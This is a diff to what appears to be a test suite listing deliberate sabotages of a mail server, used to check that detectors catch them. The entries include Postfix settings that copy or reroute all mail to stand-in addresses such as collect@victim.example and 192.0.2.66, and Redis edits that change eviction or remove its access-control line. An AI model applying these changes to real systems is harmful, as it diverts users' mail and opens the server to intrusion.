@@ -81,9 +81,13 @@ SABOTAGES = (
     postfix("a copy of all mail goes elsewhere", "mta::the_mta_takes_mail_for_the_offices_domain_only", always_bcc="collect@victim.example"),
     postfix("all mail goes elsewhere", "mta::the_mta_takes_mail_for_the_offices_domain_only", content_filter="smtp:[192.0.2.66]"),
     postfix("the MTA's notifications are not signed", "mta::the_mtas_own_notifications_are_signed", internal_mail_filter_classes=""),
-    broken(
-        "mta", "Redis forgets what the filter learned", "redis-cli -s /run/redis/redis.sock config set maxmemory-policy allkeys-lru",
-        "mta::redis_keeps_what_the_filter_knows", undo="redis-cli -s /run/redis/redis.sock config set maxmemory-policy volatile-ttl",
+    edited(
+        "mta", "Redis forgets what the filter learned", "/etc/redis/redis.conf", "s/volatile-ttl/allkeys-lru/",
+        "mta::redis_keeps_what_the_filter_knows", activate="systemctl restart redis-server.service",
+    ),
+    edited(
+        "mta", "Redis takes orders while it runs", "/etc/redis/redis.conf", "/^user default/d",
+        "mta::redis_takes_no_orders_while_it_runs", activate="systemctl restart redis-server.service",
     ),
     broken(
         "mta", "the store's trace line names users' machines", "sed -i '/Received/d' /etc/postfix/users_headers",
